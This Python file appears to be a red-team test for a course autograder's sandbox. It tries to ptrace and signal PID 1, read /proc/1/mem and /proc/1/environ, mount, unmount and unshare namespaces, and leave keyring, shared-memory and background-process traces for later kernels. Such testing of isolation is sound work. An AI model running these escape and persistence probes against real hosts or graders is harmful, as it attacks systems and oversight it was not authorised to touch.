"""Attack: take over or outlive the warm parent that forks the grading kernels (see README.md)."""

import ctypes
import os
import signal
import sys
import time

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
ME = "attacks_the_warm_parent"
NOTE = f"dlcv-note-{ME}"
SHM_KEY = 0xD1C5
PLANTED = "/tmp/planted-by-a-dead-kernel"

libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]
libc.umount2.argtypes = [ctypes.c_char_p, ctypes.c_int]
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.shmat.restype = ctypes.c_void_p
SYS_KEYCTL, SYS_ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(os.uname().machine, (None, None))
KEY_SPEC_USER_KEYRING, KEYCTL_SEARCH = -4, 10
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _errno():
    return os.strerror(ctypes.get_errno())


def _attack_the_parent():
    """ptrace, /proc files and signals against PID 1 (the warm parent, or bubblewrap's own PID 1)."""
    for request, name in ((PTRACE_ATTACH, "PTRACE_ATTACH"), (PTRACE_SEIZE, "PTRACE_SEIZE")):
        if libc.ptrace(request, 1, None, None) == 0:
            _say(f"{MARK} {name} of PID 1 succeeded")
            libc.ptrace(PTRACE_DETACH, 1, None, None)
        else:
            _say(f"{name} of PID 1: {_errno()}")
    for name, mode in (("mem", "r+b"), ("environ", "rb"), ("cmdline", "rb")):
        try:
            with open(f"/proc/1/{name}", mode) as handle:
                data = handle.read(64)
            if name != "cmdline":
                _say(f"{MARK} /proc/1/{name} opened ({mode})")
            else:
                _say(f"PID 1 is {data.split(bytes(1))[:3]}")
        except OSError as error:
            _say(f"/proc/1/{name}: {error!r}")
    for signum in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGSEGV, signal.SIGKILL):
        try:
            os.kill(1, signum)
        except OSError as error:
            _say(f"kill(1, {signum}): {error!r}")


def _attack_the_mounts():
    """What the parent may do and a kernel must not: mount, unmount, new namespaces."""
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=1g") == 0:
        _say(f"{MARK} mounted a tmpfs over /tmp")
    if libc.umount2(b"/tmp", 2) == 0:
        _say(f"{MARK} unmounted /tmp (the parent's layer below would show)")
    if libc.umount2(b"/home/student", 2) == 0:
        _say(f"{MARK} unmounted /home/student")
    for flag, name in ((CLONE_NEWNS, "mount"), (CLONE_NEWUSER, "user"), (CLONE_NEWNET, "network")):
        if libc.unshare(flag) == 0:
            _say(f"{MARK} made a {name} namespace of its own")
        else:
            _say(f"unshare {name}: {_errno()}")
    with open("/proc/self/status") as status:
        _say(" ".join(line.strip() for line in status if line.startswith(("Cap", "NoNewPrivs"))))


def _leave_notes():
    """Things that outlive a process: a key in the user's keyring, a System V segment, a process."""
    if SYS_ADD_KEY:
        key = libc.syscall(SYS_ADD_KEY, b"user", NOTE.encode(), b"left by a dead kernel", 21, KEY_SPEC_USER_KEYRING)
        _say(f"add_key: {key} ({_errno() if key < 0 else 'ok'})")
    shm = libc.shmget(SHM_KEY, 4096, 0o1666)  # IPC_CREAT | 0666
    if shm >= 0:
        address = libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, NOTE.encode(), len(NOTE))
        _say(f"System V segment {shm} made")
    if os.fork() == 0:  # a process that tries to outlive its kernel and write into the next one's /tmp
        os.setsid()
        if os.fork() == 0:
            deadline = time.monotonic() + 20
            while time.monotonic() < deadline:
                try:
                    with open(PLANTED, "w") as handle:
                        handle.write(NOTE)
                except OSError:
                    pass
                time.sleep(0.01)
        os._exit(0)
    time.sleep(0.2)


def _report():
    """In the kernel after the death: is anything of the dead kernel left?"""
    if SYS_KEYCTL:
        found = libc.syscall(SYS_KEYCTL, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, b"user", NOTE.encode(), 0)
        if found >= 0:
            _say(f"{MARK} the dead kernel's key is in this kernel's keyring")
    shm = libc.shmget(SHM_KEY, 0, 0)
    if shm >= 0:
        _say(f"{MARK} the dead kernel's System V segment is here: {shm}")
    time.sleep(0.1)
    if os.path.exists(PLANTED):
        _say(f"{MARK} a process of the dead kernel wrote into this kernel's /tmp")
    others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]
    mine = {str(os.getpid())}
    _say(f"processes besides PID 1 and this kernel: {sorted(set(others) - mine)}; tmp: {sorted(os.listdir('/tmp'))}")


if "ipykernel" in sys.modules:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        _attack_the_mounts()
        _leave_notes()
        _attack_the_parent()
        _say("ending this kernel: the grader starts the next one")
        os._exit(1)
